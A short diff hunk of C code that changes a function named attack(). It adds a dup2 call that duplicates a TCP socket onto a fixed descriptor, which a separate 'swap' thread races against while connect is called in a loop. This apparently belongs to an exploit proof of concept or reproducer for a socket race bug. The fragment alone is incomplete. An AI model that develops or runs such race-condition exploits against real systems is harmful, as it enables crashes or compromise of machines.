@@ -22,6 +22,7 @@ static void attack(void) {
   const struct sockaddr nobody = {.sa_family = AF_UNSPEC};
   sockets[0] = tcp(AF_INET);
   sockets[1] = udp(AF_INET);
+  dup2(sockets[0], kNumber);
   thread(swap, NULL);
   while (more()) {
     connect(kNumber, ADDRESS(to));
